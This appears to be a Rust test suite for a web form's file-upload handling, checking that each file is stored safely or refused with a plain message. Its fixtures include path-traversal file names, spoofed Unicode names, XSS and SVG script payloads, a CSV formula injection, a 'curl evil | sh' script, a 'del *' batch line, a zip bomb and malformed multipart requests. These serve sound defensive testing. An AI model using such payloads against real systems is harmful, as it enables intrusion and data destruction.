//! What nobody should send: a page that helps, nothing half-kept, nothing left behind.

use super::*;

/// What becomes of a file: it is taken under this name, or refused in these words.
type Expected = Result<&'static str, &'static str>;

const WORD: &[u8] =
    br#"<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const TYPES: &str = "[Content_Types].xml";
const MB: usize = 1 << 20;
const EMPTY: &str = "The selected file is empty";
const LARGE: &str = "The selected file must be smaller than 10MB";
const KIND: &str = "The selected file must be a PDF, PNG, JPEG, WebP, TXT, CSV, ODT, DOCX, ODS or XLSX";
const DAMAGED: &str = "it is damaged or incomplete";
const MACROS: &str = "must not contain macros";
const PAGE: &str = "It is a web page";
const PROGRAM: &str = "It is a program";
const ARCHIVE: &str = "It is an archive";
const OLD: &str = "It is a document of an old kind";
const PICTURE: &str = "It is a picture of another kind";
const SOUND: &str = "It is sound or video";

fn of_size(start: &[u8], size: usize) -> Vec<u8> {
    let mut bytes = start.to_vec();
    bytes.resize(size, b'x');
    bytes
}

fn files() -> Vec<(&'static str, Vec<u8>, Expected)> {
    let png_and = |more: &[u8]| [png().as_slice(), more].concat();
    let bomb = packed(&[(TYPES, WORD), ("word/document.xml", &vec![0; 70 * MB])]);
    let many: Vec<(String, &[u8])> = (0..10_001).map(|number| (format!("{number}"), b"".as_slice())).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), *bytes)).collect();
    let nested = packed(&[("a.zip", &packed(&[("b.zip", &packed(&[("c.txt", b"x")]))]))]);
    let odt = b"application/vnd.oasis.opendocument.text";
    vec![
        // What is taken, whatever it is called.
        ("letter.pdf", PDF.to_vec(), Ok("letter.pdf")),
        ("letter.exe", PDF.to_vec(), Ok("letter.exe.pdf")),
        ("roof.png", png(), Ok("roof.png")),
        ("roof.jpg", png(), Ok("roof.jpg.png")),
        ("note.txt", b"Noted.".to_vec(), Ok("note.txt")),
        ("note", "Wedi'i nodi: tŷ".as_bytes().to_vec(), Ok("note.txt")),
        ("latin.txt", b"Un caf\xe9 au lait, s'il vous pla\xeet".to_vec(), Ok("latin.txt")),
        ("wide.txt", b"\xff\xfeH\0i\0".to_vec(), Ok("wide.txt")),
        ("table.csv", b"=cmd|' /C calc'!A0,2\n".to_vec(), Ok("table.csv")),
        ("minutes.docx", packed(&[(TYPES, WORD), ("word/document.xml", b"<w/>")]), Ok("minutes.docx")),
        ("minutes.odt", packed(&[("mimetype", odt), ("content.xml", b"<o/>")]), Ok("minutes.odt")),
        ("large.pdf", of_size(PDF, 10 * MB), Ok("large.pdf")),
        // Names.
        ("../../../../etc/passwd", b"Noted.".to_vec(), Ok("passwd.txt")),
        ("..\\..\\windows\\system.ini", b"Noted.".to_vec(), Ok("system.ini.txt")),
        ("/etc/cron.d/job", b"Noted.".to_vec(), Ok("job.txt")),
        ("a\u{202e}fdp.exe", PDF.to_vec(), Ok("a fdp.exe.pdf")),
        ("a\u{200b}\u{feff}b.pdf", PDF.to_vec(), Ok("a b.pdf")),
        ("<script>alert(1)<\\script>.pdf", PDF.to_vec(), Ok("script&#62;.pdf")),
        ("it's & that.pdf", PDF.to_vec(), Ok("it&#39;s &#38; that.pdf")),
        ("%2e%2e%2fpasswd.pdf", PDF.to_vec(), Ok("%2e%2e%2fpasswd.pdf")),
        ("...", PDF.to_vec(), Ok("file.pdf")),
        ("   .pdf", PDF.to_vec(), Ok("pdf.pdf")),
        ("CON.pdf", PDF.to_vec(), Ok("CON.pdf")),
        ("\u{1f4a9}.pdf", PDF.to_vec(), Ok("\u{1f4a9}.pdf")),
        ("{{ frame }}.pdf", PDF.to_vec(), Ok("{{ frame }}.pdf")),
        // Two things at once: only what draws the picture is kept of it.
        ("both.html", png_and(b"<html><script>alert(1)</script>"), Ok("both.html.png")),
        ("both.png", png_and(&packed(&[("a.js", b"alert(1)")])), Ok("both.png")),
        // Size.
        ("empty.pdf", vec![], Err(EMPTY)),
        ("large.pdf", of_size(PDF, 10 * MB + 1), Err(LARGE)),
        ("larger.pdf", of_size(PDF, 16 * MB), Err(LARGE)),
        ("large.zip", of_size(b"PK\x03\x04", 11 * MB), Err(LARGE)),
        // Pages, drawings, programs.
        ("page.html", b"<!DOCTYPE html><script>alert(1)</script>".to_vec(), Err(PAGE)),
        ("page.txt", b"\n\n  <HTML><body onload=alert(1)>".to_vec(), Err(PAGE)),
        ("page.pdf", b"<script>alert(1)</script>%PDF-1.7".to_vec(), Err(PAGE)),
        ("drawing.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(), Err(PAGE)),
        ("drawing.txt", b"<?xml version=\"1.0\"?><svg/>".to_vec(), Err(PAGE)),
        ("page.htm", b"Noted.".to_vec(), Err(PAGE)),
        ("wide.txt", b"\xff\xfe<\0h\0t\0m\0l\0>\0".to_vec(), Err(PAGE)),
        ("marked.txt", b"\xef\xbb\xbf<!doctype html>".to_vec(), Err(PAGE)),
        ("run.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec(), Err(PROGRAM)),
        ("run.pdf", of_size(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0", 100), Err(PROGRAM)),
        ("run.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), Err(PROGRAM)),
        ("run.js", b"alert(1)".to_vec(), Err(PROGRAM)),
        ("run.VBS", b"MsgBox 1".to_vec(), Err(PROGRAM)),
        ("run.txt", b"@echo off\r\ndel *".to_vec(), Err(PROGRAM)),
        ("paper.txt", b"%!PS-Adobe-3.0".to_vec(), Err(PROGRAM)),
        // Archives and documents that are none.
        ("all.zip", packed(&[("a.txt", b"x")]), Err(ARCHIVE)),
        ("all.docx", packed(&[("a.txt", b"x")]), Err(ARCHIVE)),
        ("nested.zip", nested, Err(ARCHIVE)),
        ("many.zip", packed(&many), Err(ARCHIVE)),
        ("all.7z", b"7z\xbc\xaf\x27\x1c\0\x04\0\0".to_vec(), Err(ARCHIVE)),
        ("all.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(), Err(ARCHIVE)),
        ("all.rar", b"Rar!\x1a\x07\x01\0\0".to_vec(), Err(ARCHIVE)),
        ("bomb.docx", bomb, Err(DAMAGED)),
        ("cut.docx", packed(&[(TYPES, WORD)])[..100].to_vec(), Err(DAMAGED)),
        ("macro.docm", packed(&[(TYPES, WORD), ("word/vbaProject.bin", b"x")]), Err(MACROS)),
        ("macro.docx", packed(&[(TYPES, WORD), ("word/activeX/activeX1.xml", b"x")]), Err(MACROS)),
        ("macro.odt", packed(&[("mimetype", odt), ("Basic/Standard/Module1.xml", b"x")]), Err(MACROS)),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0".to_vec(), Err(OLD)),
        ("rich.rtf", b"{\\rtf1\\ansi Noted.}".to_vec(), Err(OLD)),
        // Pictures, sound, and what is nothing.
        ("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec(), Err(PICTURE)),
        ("moving.gif", b"GIF89a\x01\0\x01\0\0\0\0".to_vec(), Err(PICTURE)),
        ("scan.tif", b"II*\0\x08\0\0\0\0\0".to_vec(), Err(PICTURE)),
        ("song.mp3", b"ID3\x03\0\0\0\0\0\0".to_vec(), Err(SOUND)),
        ("film.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec(), Err(SOUND)),
        ("cut.png", png()[..40].to_vec(), Err(DAMAGED)),
        ("cut.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec(), Err(DAMAGED)),
        ("long.jpg", b"\xff\xd8\xff\xe1\xff\xff".to_vec(), Err(DAMAGED)),
        ("cut.webp", b"RIFF\xff\xff\xff\xffWEBPVP8 ".to_vec(), Err(DAMAGED)),
        ("nothing.bin", vec![0, 1, 2, 3, 4, 5], Err(KIND)),
        ("nul.txt", b"Noted\0.".to_vec(), Err(KIND)),
        ("escape.txt", b"\x1b[2J\x1b[1;1H".to_vec(), Err(KIND)),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn every_file_is_taken_or_refused_in_plain_words() -> io::Result<()> {
    let told = told(Engine::Sqlite);
    let server = told.serve();
    let mut giving = Giving::start(&server, CALL).await?;
    let files = files();
    assert!(files.len() >= 60, "{}", files.len());
    for (name, bytes, expected) in &files {
        let case = format!("{name:?} of {} bytes", bytes.len());
        let answer = giving.upload("papers", &[(name, bytes)]).await?;
        let page = giving.page("answer/papers").await?;
        match expected {
            Ok(shown) => {
                assert_eq!(answer.status, 303, "{case}: {}", answer.text());
                assert!(page.contains(&format!(">{shown}</a>")), "{case}: {shown} is not in {page}");
                assert_eq!(on_disk(&told), 1, "{case}");
                let id = ids(&page).pop().unwrap_or_default();
                let own = giving.browser.get(&format!("{CALL}/files/{id}")).await?;
                assert_eq!((own.status, own.header("x-content-type-options")), (200, Some("nosniff")), "{case}");
                assert_eq!(own.header("content-security-policy"), Some("sandbox; default-src 'none'"), "{case}");
                let kind = own.header("content-type").unwrap_or_default();
                assert!(!kind.contains("html") && !kind.contains("svg") && !kind.contains("script"), "{case}: {kind}");
                assert!(!own.text().contains("<script"), "{case}");
                assert_eq!(giving.post("answer/papers", &[("remove", &id)]).await?.status, 303, "{case}");
                assert_on_disk(&told, 0).await;
            }
            Err(words) => {
                assert_eq!(answer.status, 422, "{case}: {}", answer.text());
                assert!(answer.text().contains(words), "{case}: {words} is not in {}", answer.text());
                assert!(answer.text().contains("href=\"#file\"") && ids(&page).is_empty(), "{case}");
                assert_eq!(on_disk(&told), 0, "{case}");
            }
        }
    }
    assert_eq!(server.browser().get("/healthz").await?.status, 200);
    Ok(())
}

/// A form, with `{csrf}` where the token goes.
fn forms() -> Vec<(&'static str, &'static str, String, &'static [u16])> {
    const KIND: &str = "multipart/form-data; boundary=b";
    let part = |head: &str, body: &str| format!("--b\r\nContent-Disposition: form-data; {head}\r\n\r\n{body}\r\n");
    let csrf = part("name=\"csrf\"", "{csrf}");
    let file = |name: &str, body: &str| part(&format!("name=\"file\"; filename=\"{name}\""), body);
    let end = "--b--\r\n";
    vec![
        ("no boundary", "multipart/form-data", format!("{csrf}{end}"), &[415]),
        ("an empty boundary", "multipart/form-data; boundary=", format!("{csrf}{end}"), &[415]),
        ("another boundary", "multipart/form-data; boundary=x", format!("{csrf}{end}"), &[413, 415]),
        ("another kind", "text/plain", format!("{csrf}{end}"), &[415]),
        ("JSON", "application/json", "{}".to_owned(), &[415]),
        ("mixed parts", "multipart/mixed; boundary=b", format!("{csrf}{end}"), &[415]),
        ("nothing at all", KIND, String::new(), &[403, 415]),
        ("only the end", KIND, end.to_owned(), &[403, 415]),
        ("no end", KIND, format!("{csrf}{}", file("a.txt", "Noted.").trim_end()), &[415]),
        ("no end of a head", KIND, format!("{csrf}--b\r\nContent-Disposition: form-data; name=\"file\""), &[415]),
        ("a head without end", KIND, format!("{csrf}--b\r\nX: {}", "x".repeat(3 * MB)), &[413, 415]),
        ("nothing but noise", KIND, "x".repeat(3 * MB), &[413, 415]),
        ("no token", KIND, format!("{}{end}", file("a.txt", "Noted.")), &[403]),
        ("the token behind the file", KIND, format!("{}{csrf}{end}", file("a.txt", "Noted.")), &[403]),
        ("a wrong token", KIND, format!("{}{}{end}", part("name=\"csrf\"", "0"), file("a.txt", "Noted.")), &[403]),
        ("two tokens", KIND, format!("{}{csrf}{end}", part("name=\"csrf\"", "0")), &[403]),
        ("a part without a name", KIND, format!("{csrf}{}{end}", part("filename=\"a.txt\"", "Noted.")), &[303, 415]),
        (
            "a file in another field",
            KIND,
            format!("{csrf}{}{end}", part("name=\"x\"; filename=\"a.txt\"", "x")),
            &[303],
        ),
        ("no files", KIND, format!("{csrf}{end}"), &[303]),
        ("thousands of parts", KIND, format!("{csrf}{}{end}", part("name=\"x\"", "x").repeat(5_000)), &[413]),
        ("thousands of files", KIND, format!("{csrf}{}{end}", file("a.txt", "x").repeat(5_000)), &[413]),
        ("a long text", KIND, format!("{csrf}{}{end}", part("name=\"what-1\"", &"x".repeat(MB))), &[413]),
        ("a long name", KIND, format!("{csrf}{}{end}", file(&"x".repeat(60_000), "x")), &[303, 415]),
        (
            "the name of a field without end",
            KIND,
            format!("{csrf}{}{end}", part(&format!("name=\"{}\"", "x".repeat(60_000)), "x")),
            &[303, 415],
        ),
        ("a file that is not there", KIND, format!("{csrf}{}{end}", part("name=\"remove\"", "7")), &[303]),
        (
            "somebody else's file",
            KIND,
            format!("{csrf}{}{end}", part("name=\"remove\"", "00000000-0000-0000-0000-000000000001")),
            &[303],
        ),
        (
            "words for a file that is not there",
            KIND,
            format!("{csrf}{}{}{end}", part("name=\"file-1\"", "x"), part("name=\"what-1\"", "x")),
            &[303],
        ),
        ("words that are no text", KIND, format!("{csrf}{}{end}", part("name=\"what-1\"", "\0\u{1b}")), &[303]),
        (
            "another draft",
            KIND,
            format!(
                "{csrf}{}{}{end}",
                part("name=\"draft\"", "00000000-0000-0000-0000-000000000001"),
                file("a.txt", "x")
            ),
            &[404],
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn no_form_breaks_anything() -> io::Result<()> {
    let told = told(Engine::Sqlite);
    let server = told.serve();
    let mut giving = Giving::start(&server, CALL).await?;
    let address = format!("{CALL}/answer/papers");
    for (case, kind, body, statuses) in forms() {
        let body = body.replace("{csrf}", &giving.csrf).into_bytes();
        let size = body.len();
        // A connection that is closed before all has been sent is an answer, too, to what is far too much.
        let mut sender = Browser::new(server.address());
        sender.set_cookie("folkmoot", giving.browser.cookie("folkmoot").unwrap_or_default());
        match sender.post_raw(&address, kind, body).await {
            Ok(answer) => assert!(statuses.contains(&answer.status), "{case}: {} {}", answer.status, answer.text()),
            Err(error) => assert!(size > MB && statuses.contains(&413), "{case}: {error}"),
        }
        let page = giving.page("answer/papers").await?;
        for id in ids(&page) {
            giving.post("answer/papers", &[("remove", &id)]).await?;
        }
        assert_on_disk(&told, 0).await;
    }
    let files: Vec<(&str, &[u8])> = vec![("a.txt", b"Noted."); 30];
    let many = giving.upload("papers", &files).await?;
    assert_eq!(many.status, 422);
    assert!(many.text().contains("You can only add up to 5 files"), "{}", many.text());
    assert_on_disk(&told, 5).await;
    break_off(&server, &giving)?;
    assert_eq!(ids(&giving.page("answer/papers").await?).len(), 5);
    assert_on_disk(&told, 5).await;
    assert!(!server.log().contains("panicked"), "{}", server.log());
    Ok(())
}

/// Connections that end in the midst of a file.
fn break_off(server: &Server, giving: &Giving) -> io::Result<()> {
    let cookie = giving.browser.cookie("folkmoot").unwrap_or_default();
    for sent in [0, 10, 200, 100_000, 3 * MB] {
        let mut body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{}\r\n--b\r\nContent-Disposition: form-data; \
             name=\"file\"; filename=\"a.txt\"\r\n\r\n",
            giving.csrf
        );
        body.push_str(&"x".repeat(sent));
        body.truncate(sent.max(10));
        let head = format!(
            "POST {CALL}/answer/papers HTTP/1.1\r\nHost: {}\r\nCookie: folkmoot={cookie}\r\nSec-Fetch-Site: same-origin\r\n\
             Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 5000000\r\n\r\n",
            server.address()
        );
        let mut stream = std::net::TcpStream::connect(server.address())?;
        stream.write_all(head.as_bytes())?;
        // The server may have hung up already.
        drop(stream.write_all(body.as_bytes()));
        drop(stream);
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    Ok(())
}
